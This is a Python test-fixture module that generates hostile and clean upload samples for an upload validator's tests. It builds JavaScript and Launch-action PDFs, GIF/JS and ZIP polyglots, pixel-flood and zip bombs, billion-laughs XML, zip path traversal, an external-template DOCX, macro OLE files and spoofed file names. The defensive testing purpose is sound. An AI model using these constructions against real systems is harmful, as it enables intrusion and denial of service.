"""The bad-upload corpus and its clean controls, generated in memory at test time.

Nothing is downloaded. Each entry says which file the pipeline sees (name and bytes), the
slot's options, and what must happen: ``BAD`` entries name the refusal code they must get,
``GOOD`` entries the kind they must be accepted as. tests/applications/test_uploads.py runs them.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

LIMIT = 4_000_000
IDENTITY = {"pdf", "jpeg", "png"}
EVERYTHING = {"pdf", "jpeg", "png", "doc", "docx"}


@dataclass(frozen=True)
class Case:
    id: str
    make: Callable[[], tuple[str, bytes]]  # -> (file name, content)
    expect: str  # a refusal code (bad) or an accepted kind (good)
    options: dict = field(default_factory=dict)  # upload_check keyword arguments


# --- PDF ------------------------------------------------------------------------------------


def pdf_bytes(pdf: pikepdf.Pdf, **save) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def new_pdf(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for number in range(pages):
        pdf.add_blank_page(page_size=(300, 200))
        page = pdf.pages[-1]
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = pdf.make_stream(
            f"BT /F1 12 Tf 20 100 Td (Page {number + 1}) Tj ET".encode()
        )
    return pdf


@cache
def good_pdf() -> bytes:
    return pdf_bytes(new_pdf())


def pdf_with(mutate) -> bytes:
    pdf = new_pdf()
    mutate(pdf)
    return pdf_bytes(pdf)


def _open_action_js(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('hi')"))


def _names_js(pdf):
    action = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action])))


def _page_aa(pdf):
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("1")))


def _link_annotation(pdf, action):
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=action
    )
    pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))


def _launch(pdf):
    _link_annotation(pdf, Dictionary(S=Name.Launch, F=String("calc.exe")))


def _embedded_file(pdf):
    pdf.attachments["notes.txt"] = pikepdf.AttachedFileSpec(pdf, b"hello", mime_type="text/plain")


def _file_attachment_annotation(pdf):
    stream = pdf.make_stream(b"payload")
    spec = Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=stream))
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 10, 10]), FS=spec
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(annotation)])


def _rich_media(pdf):
    annotation = Dictionary(
        Type=Name.Annot,
        Subtype=Name.RichMedia,
        Rect=Array([0, 0, 10, 10]),
        RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([]))),
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(annotation)])


def _xfa(pdf):
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    )


def _goto_open_action(pdf):
    # Opening at a page is not an action worth refusing: many writers emit it.
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])


def _uri_link(pdf):
    _link_annotation(pdf, Dictionary(S=Name.URI, URI=String("https://www.canada.ca/")))


def password_pdf() -> bytes:
    return pdf_bytes(new_pdf(), encryption=pikepdf.Encryption(user="secret", owner="owner"))


def permissions_only_pdf() -> bytes:
    # IRCC's own forms: an owner password restricting edits, no password to open.
    restricted = pikepdf.Permissions(modify_other=False, extract=False)
    return pdf_bytes(
        new_pdf(), encryption=pikepdf.Encryption(user="", owner="owner", allow=restricted)
    )


def page_less_pdf() -> bytes:
    return pdf_bytes(pikepdf.new())


def corrupt_pdf() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n"


def truncated_pdf() -> bytes:
    data = pdf_bytes(new_pdf(3))
    return data[: len(data) * 2 // 3]


def pdf_zip_polyglot() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("payload.html", "<script>alert(1)</script>")
    return good_pdf() + archive.getvalue()


def padded(content: bytes, size: int) -> bytes:
    """A valid PDF of exactly ``size`` bytes (a comment after %%EOF is ignored by readers)."""
    filler = size - len(content) - 2
    return content + b"%" + b"0" * filler + b"\n"


# --- Images ---------------------------------------------------------------------------------


def image_bytes(image: Image.Image, image_format: str, **save) -> bytes:
    out = io.BytesIO()
    image.save(out, image_format, **save)
    return out.getvalue()


def noise_image(width: int, height: int) -> Image.Image:
    return Image.frombytes(
        "RGB", (width, height), bytes(range(256)) * (width * height * 3 // 256 + 1)
    )


@cache
def good_jpeg() -> bytes:
    return image_bytes(noise_image(64, 48), "JPEG", quality=85)


@cache
def good_png() -> bytes:
    return image_bytes(noise_image(64, 48), "PNG")


def jpeg_with_gps() -> bytes:
    """A 64 × 32 JPEG with GPS EXIF and orientation 6 (rotate 90°): stored as 32 × 64, no EXIF."""
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation
    exif[0x010F] = "CANARY-Camera"  # Make
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (45.0, 25.0, 12.0)
    gps[3] = "W"
    gps[4] = (75.0, 41.0, 30.0)
    return image_bytes(noise_image(64, 32), "JPEG", exif=exif.tobytes())


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pixel_flood_png(width: int = 100_000, height: int = 100_000) -> bytes:
    """A tiny PNG whose header claims width × height pixels (a decompression bomb)."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" + b"\x00" * ((width + 7) // 8), 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", rows)
        + png_chunk(b"IEND", b"")
    )


def pixel_flood_jpeg() -> bytes:
    """A JPEG whose frame header claims 65,500 × 65,500 pixels."""
    data = bytearray(good_jpeg())
    marker = data.find(b"\xff\xc0")
    if marker < 0:
        marker = data.find(b"\xff\xc2")
    struct.pack_into(">HH", data, marker + 5, 65_500, 65_500)
    return bytes(data)


def truncated_jpeg() -> bytes:
    data = image_bytes(noise_image(400, 300), "JPEG", quality=95)
    return data[: len(data) // 2]


def corrupt_png() -> bytes:
    data = bytearray(good_png())
    # Break the image data itself (a CRC failure on IDAT).
    start = data.find(b"IDAT") + 8
    data[start : start + 40] = b"\x00" * 40
    return bytes(data)


def gif_js_polyglot() -> bytes:
    # A valid GIF header whose bytes also parse as JavaScript: GIF89a/*...*/=alert(1)//
    return (
        b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=alert(document.domain);//" + b"\x00" * 20 + b";"
    )


def jpeg_zip_polyglot() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("evil.js", "alert(1)")
    return good_jpeg() + archive.getvalue()


# --- Word: DOCX -----------------------------------------------------------------------------

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>'
    "{extra}</Types>"
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
)
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def relationships(*rels: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(rels)
        + "</Relationships>"
    )


def docx(*, main: str = DOCX_MAIN, extra_types: str = "", text: str = "Hello", parts=None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=main, extra=extra_types))
        zf.writestr("_rels/.rels", ROOT_RELS)
        zf.writestr("word/document.xml", DOCUMENT.format(text=text))
        for name, data in (parts or {}).items():
            zf.writestr(name, data)
    return out.getvalue()


@cache
def good_docx() -> bytes:
    hyperlink = (
        f'<Relationship Id="rId9" Type="{REL}hyperlink" '
        'Target="https://www.canada.ca/" TargetMode="External"/>'
    )
    return docx(parts={"word/_rels/document.xml.rels": relationships(hyperlink)})


def macro_docx() -> bytes:
    rel = (
        '<Relationship Id="rId5" Type="http://schemas.microsoft.com/office/2006/'
        'relationships/vbaProject" Target="vbaProject.bin"/>'
    )
    return docx(
        main=DOCM_MAIN,
        parts={
            "word/vbaProject.bin": cfb_vba_project(),
            "word/_rels/document.xml.rels": relationships(rel),
        },
    )


def macro_content_type_docx() -> bytes:
    return docx(main=DOCM_MAIN)


def external_template_docx() -> bytes:
    rel = (
        f'<Relationship Id="rId1" Type="{REL}attachedTemplate" '
        'Target="http://198.51.100.7/template.dotm" TargetMode="External"/>'
    )
    return docx(parts={"word/_rels/settings.xml.rels": relationships(rel)})


def external_image_docx() -> bytes:
    rel = (
        f'<Relationship Id="rId7" Type="{REL}image" '
        'Target="file://198.51.100.7/share/x.png" TargetMode="External"/>'
    )
    return docx(parts={"word/_rels/document.xml.rels": relationships(rel)})


def embedded_ole_docx() -> bytes:
    rel = f'<Relationship Id="rId8" Type="{REL}oleObject" Target="embeddings/oleObject1.bin"/>'
    return docx(
        parts={
            "word/_rels/document.xml.rels": relationships(rel),
            "word/embeddings/oleObject1.bin": cfb({"Contents": b"x" * 4096}),
        }
    )


def zip_bomb_docx() -> bytes:
    """10 MB of zeros in one part: compresses about 1000:1."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=DOCX_MAIN, extra=""))
        zf.writestr("_rels/.rels", ROOT_RELS)
        zf.writestr("word/document.xml", DOCUMENT.format(text="x"))
        zf.writestr("word/media/blank.bin", b"\x00" * 10_000_000)
    return out.getvalue()


def huge_docx(gigabytes: float = 1.0) -> bytes:
    """Over 1 GB uncompressed, streamed so that building it stays small in memory."""
    out = io.BytesIO()
    chunk = b"\x00" * 8_000_000
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=DOCX_MAIN, extra=""))
        zf.writestr("word/document.xml", DOCUMENT.format(text="x"))
        with zf.open("word/media/blank.bin", "w", force_zip64=True) as part:
            for _ in range(int(gigabytes * 1_000_000_000 // len(chunk)) + 1):
                part.write(chunk)
    return out.getvalue()


def many_entries_docx() -> bytes:
    return docx(parts={f"word/media/{i}.txt": "x" for i in range(1100)})


def traversal_docx() -> bytes:
    return docx(parts={"../../evil.xml": "<x/>"})


def absolute_path_docx() -> bytes:
    return docx(parts={"/etc/evil.xml": "<x/>"})


def entity_docx() -> bytes:
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body>&lol2;</w:body></w:document>"
    )
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=DOCX_MAIN, extra=""))
        zf.writestr("_rels/.rels", ROOT_RELS)
        zf.writestr("word/document.xml", laughs)
    return data.getvalue()


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("readme.txt", "not a Word document")
    return out.getvalue()


def corrupt_zip() -> bytes:
    return good_docx()[:200]


# --- Word: legacy DOC (a minimal OLE compound file writer) ---------------------------------

FREE, END, FAT_SECTOR, NO_STREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def cfb(tree: dict) -> bytes:
    """Write a version-3 compound file: ``tree`` maps names to bytes (streams) or dicts.

    Every stream is padded to 4096 bytes, so all of them live in regular sectors and the
    writer needs no mini stream.
    """
    entries = []  # [name, type, data, children]

    def add(name, node):
        index = len(entries)
        if isinstance(node, dict):
            entries.append([name, 1, b"", []])
            for child_name, child in node.items():
                entries[index][3].append(add(child_name, child))
        else:
            entries.append([name, 2, node.ljust(4096, b"\x00"), []])
        return index

    add("Root Entry", tree)
    entries[0][1] = 5
    sectors: list[bytes] = []
    starts = {}
    chains = []
    for index, (_, kind, data, _) in enumerate(entries):
        if kind == 2:
            starts[index] = len(sectors)
            count = len(data) // 512
            chains.append((len(sectors), count))
            sectors.extend(data[i * 512 : (i + 1) * 512] for i in range(count))
    dir_start = len(sectors)
    dir_count = (len(entries) + 3) // 4
    chains.append((dir_start, dir_count))
    total_without_fat = dir_start + dir_count
    fat_count = (total_without_fat + 127) // 127 + 1
    fat_start = total_without_fat
    fat = [FREE] * (fat_count * 128)
    for start, count in chains:
        for i in range(count):
            fat[start + i] = start + i + 1 if i < count - 1 else END
    for i in range(fat_count):
        fat[fat_start + i] = FAT_SECTOR

    def sibling_tree(children):
        # A right-leaning chain in the order CFB compares names (length, then upper case).
        ordered = sorted(children, key=lambda i: (len(entries[i][0]), entries[i][0].upper()))
        for a, b in zip(ordered, ordered[1:], strict=False):
            right[a] = b
        return ordered[0] if ordered else NO_STREAM

    right = {}
    child = {index: sibling_tree(node[3]) for index, node in enumerate(entries) if node[1] != 2}
    directory = b""
    for index, (name, kind, data, _) in enumerate(entries):
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        directory += struct.pack(
            "<64sHBBIII16sIQQIQ",
            encoded,
            len(encoded),
            kind,
            1,
            NO_STREAM,
            right.get(index, NO_STREAM),
            child.get(index, NO_STREAM),
            b"\x00" * 16,
            0,
            0,
            0,
            starts.get(index, END if kind == 5 else 0),
            len(data),
        )
    empty = struct.pack(
        "<64sHBBIII16sIQQIQ",
        b"",
        0,
        0,
        0,
        NO_STREAM,
        NO_STREAM,
        NO_STREAM,
        b"\x00" * 16,
        0,
        0,
        0,
        0,
        0,
    )
    directory += empty * (dir_count * 4 - len(entries))
    sectors.extend(directory[i * 512 : (i + 1) * 512] for i in range(dir_count))
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat)
    sectors.extend(fat_bytes[i * 512 : (i + 1) * 512] for i in range(fat_count))
    difat = [fat_start + i for i in range(fat_count)] + [FREE] * (109 - fat_count)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\x00" * 16,
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"\x00" * 6,
        0,
        fat_count,
        dir_start,
        0,
        4096,
        END,
        0,
        END,
        0,
    ) + struct.pack("<109I", *difat)
    return header + b"".join(sectors)


def cfb_vba_project() -> bytes:
    return cfb(
        {
            "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n',
            "VBA": {"_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00", "dir": b"\x01\x00\x00\x00"},
        }
    )


@cache
def good_doc() -> bytes:
    return cfb({"WordDocument": b"\xec\xa5\xc1\x00" + b"\x00" * 600, "1Table": b"\x00" * 600})


def macro_doc() -> bytes:
    return cfb(
        {
            "WordDocument": b"\xec\xa5\xc1\x00" + b"\x00" * 600,
            "1Table": b"\x00" * 600,
            "Macros": {
                "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n',
                "VBA": {"_VBA_PROJECT": b"\xcc\x61\xff\xff\x00", "dir": b"\x01\x00"},
            },
        }
    )


def not_word_ole() -> bytes:
    return cfb({"Workbook": b"\x09\x08" + b"\x00" * 100})


# --- Other hostile content ------------------------------------------------------------------

EXECUTABLE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"PE\x00\x00" * 8
)
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 120
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(2)</script></svg>"
)
# The EICAR anti-virus test string, for the scanner double; the type check refuses it first.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
TIFF = b"II*\x00\x08\x00\x00\x00" + b"\x00" * 64


def pdf_then_html() -> bytes:
    return b"<html><body>" + good_pdf() + b"</body></html>"


BAD = [
    # Size
    Case("zero-bytes", lambda: ("empty.pdf", b""), "empty"),
    Case("over-limit-by-one", lambda: ("big.pdf", padded(good_pdf(), LIMIT + 1)), "too_large"),
    Case("over-limit-image", lambda: ("big.png", good_png() + b"\x00" * LIMIT), "too_large"),
    # Names
    Case("rlo-name", lambda: ("invoice\u202efdp.exe", good_pdf()), "name_invalid"),
    Case("nul-in-name", lambda: ("a.pdf\x00.exe", good_pdf()), "name_invalid"),
    Case("newline-in-name", lambda: ("a\r\nb.pdf", good_pdf()), "name_invalid"),
    Case("percent-00-name", lambda: ("a.pdf%00.exe", good_pdf()), "type_not_allowed"),
    Case("no-extension", lambda: ("passport", good_pdf()), "type_not_allowed"),
    # Types disguised by their names
    Case("exe-renamed-pdf", lambda: ("form.pdf", EXECUTABLE), "type_mismatch"),
    Case("exe-renamed-jpg", lambda: ("photo.jpg", EXECUTABLE), "type_mismatch"),
    Case("elf-renamed-png", lambda: ("photo.png", ELF), "type_mismatch"),
    Case("exe-named-exe", lambda: ("setup.exe", EXECUTABLE), "type_not_allowed"),
    Case("html-renamed-pdf", lambda: ("letter.pdf", HTML), "type_mismatch"),
    Case("svg-renamed-png", lambda: ("photo.png", SVG), "type_mismatch"),
    Case("svg-named-svg", lambda: ("photo.svg", SVG), "type_not_allowed"),
    Case("gif-js-polyglot", lambda: ("photo.gif", gif_js_polyglot()), "type_not_allowed"),
    Case("gif-renamed-png", lambda: ("photo.png", gif_js_polyglot()), "type_mismatch"),
    Case("png-renamed-jpg", lambda: ("photo.jpg", good_png()), "type_mismatch"),
    Case("tiff-renamed-jpg", lambda: ("scan.jpg", TIFF), "type_mismatch"),
    Case("eicar-renamed-pdf", lambda: ("eicar.pdf", EICAR), "type_mismatch"),
    Case("pdf-after-html", lambda: ("letter.pdf", pdf_then_html()), "type_mismatch"),
    Case("pdf-zip-polyglot", lambda: ("letter.pdf", pdf_zip_polyglot()), "type_ambiguous"),
    Case("jpeg-zip-polyglot", lambda: ("photo.jpg", jpeg_zip_polyglot()), "type_ambiguous"),
    Case(
        "doc-in-identity-slot",
        lambda: ("letter.doc", good_doc()),
        "type_not_allowed",
        {"allowed_kinds": IDENTITY},
    ),
    # PDF
    Case("password-pdf", lambda: ("locked.pdf", password_pdf()), "pdf_encrypted"),
    Case("corrupt-pdf", lambda: ("broken.pdf", corrupt_pdf()), "pdf_corrupt"),
    Case("truncated-pdf", lambda: ("cut.pdf", truncated_pdf()), "pdf_unreadable"),
    Case("page-less-pdf", lambda: ("blank.pdf", page_less_pdf()), "pdf_no_pages"),
    Case(
        "too-many-pages-pdf",
        lambda: ("long.pdf", pdf_bytes(new_pdf(4))),
        "pdf_too_many_pages",
        {"settings": {"UPLOAD_PDF_MAX_PAGES": 3}},
    ),
    Case("openaction-js-pdf", lambda: ("js.pdf", pdf_with(_open_action_js)), "pdf_active_content"),
    Case("names-js-pdf", lambda: ("js.pdf", pdf_with(_names_js)), "pdf_active_content"),
    Case("page-aa-pdf", lambda: ("aa.pdf", pdf_with(_page_aa)), "pdf_active_content"),
    Case("xfa-pdf", lambda: ("form.pdf", pdf_with(_xfa)), "pdf_active_content"),
    Case("launch-pdf", lambda: ("launch.pdf", pdf_with(_launch)), "pdf_embedded_content"),
    Case(
        "launch-pdf-in-form-slot",
        lambda: ("launch.pdf", pdf_with(_launch)),
        "pdf_embedded_content",
        {"allow_active_pdf": True},
    ),
    Case(
        "embedded-file-pdf", lambda: ("att.pdf", pdf_with(_embedded_file)), "pdf_embedded_content"
    ),
    Case(
        "file-attachment-annotation-pdf",
        lambda: ("att.pdf", pdf_with(_file_attachment_annotation)),
        "pdf_embedded_content",
    ),
    Case("rich-media-pdf", lambda: ("media.pdf", pdf_with(_rich_media)), "pdf_embedded_content"),
    # Images
    Case("truncated-jpeg", lambda: ("photo.jpg", truncated_jpeg()), "image_corrupt"),
    Case("corrupt-png", lambda: ("photo.png", corrupt_png()), "image_corrupt"),
    Case("pixel-flood-png", lambda: ("flood.png", pixel_flood_png()), "image_too_many_pixels"),
    Case("pixel-flood-jpeg", lambda: ("flood.jpg", pixel_flood_jpeg()), "image_too_many_pixels"),
    Case(
        "photo-too-small",
        lambda: ("photo.jpg", good_jpeg()),
        "image_too_small",
        {"min_width": 420, "min_height": 540},
    ),
    # DOCX
    Case("macro-docx", lambda: ("letter.docx", macro_docx()), "office_macros"),
    Case("docm-content-type", lambda: ("letter.docx", macro_content_type_docx()), "office_macros"),
    Case("external-template-docx", lambda: ("t.docx", external_template_docx()), "office_external"),
    Case("external-image-docx", lambda: ("i.docx", external_image_docx()), "office_external"),
    Case("embedded-ole-docx", lambda: ("o.docx", embedded_ole_docx()), "office_embedded"),
    Case("zip-bomb-docx", lambda: ("bomb.docx", zip_bomb_docx()), "office_too_large"),
    Case("many-entries-docx", lambda: ("many.docx", many_entries_docx()), "office_too_large"),
    Case("traversal-docx", lambda: ("t.docx", traversal_docx()), "office_corrupt"),
    Case("absolute-path-docx", lambda: ("t.docx", absolute_path_docx()), "office_corrupt"),
    Case("entity-expansion-docx", lambda: ("e.docx", entity_docx()), "office_corrupt"),
    Case("zip-renamed-docx", lambda: ("z.docx", plain_zip()), "type_mismatch"),
    Case("corrupt-docx", lambda: ("c.docx", corrupt_zip()), "office_corrupt"),
    Case("docx-renamed-pdf", lambda: ("letter.pdf", good_docx()), "type_mismatch"),
    # DOC
    Case("macro-doc", lambda: ("letter.doc", macro_doc()), "office_macros"),
    Case("excel-renamed-doc", lambda: ("sheet.doc", not_word_ole()), "type_mismatch"),
    Case("garbage-ole-doc", lambda: ("x.doc", good_doc()[:700]), "office_corrupt"),
]

GOOD = [
    Case("pdf", lambda: ("letter.pdf", good_pdf()), "pdf"),
    Case("pdf-exactly-at-limit", lambda: ("big.pdf", padded(good_pdf(), LIMIT)), "pdf"),
    Case("pdf-permissions-only", lambda: ("imm5669.pdf", permissions_only_pdf()), "pdf"),
    Case("pdf-goto-open-action", lambda: ("goto.pdf", pdf_with(_goto_open_action)), "pdf"),
    Case("pdf-with-web-link", lambda: ("link.pdf", pdf_with(_uri_link)), "pdf"),
    Case(
        "pdf-js-in-form-slot",
        lambda: ("imm0008.pdf", pdf_with(_open_action_js)),
        "pdf",
        {"allow_active_pdf": True},
    ),
    Case("jpeg", lambda: ("photo.jpg", good_jpeg()), "jpeg"),
    Case("jpeg-upper-case-name", lambda: ("PHOTO.JPEG", good_jpeg()), "jpeg"),
    Case("jpeg-with-gps", lambda: ("phone.jpg", jpeg_with_gps()), "jpeg"),
    Case("png", lambda: ("scan.png", good_png()), "png"),
    Case("docx", lambda: ("letter.docx", good_docx()), "docx"),
    Case("doc", lambda: ("letter.doc", good_doc()), "doc"),
    Case("traversal-name", lambda: ("../../x.pdf", good_pdf()), "pdf"),
    Case("windows-path-name", lambda: ("C:\\Users\\me\\passport.pdf", good_pdf()), "pdf"),
    Case("device-name", lambda: ("CON.pdf", good_pdf()), "pdf"),
    Case("300-character-name", lambda: ("a" * 296 + ".pdf", good_pdf()), "pdf"),
    Case("french-name", lambda: ("Relevé d’emploi – Côté.pdf", good_pdf()), "pdf"),
]
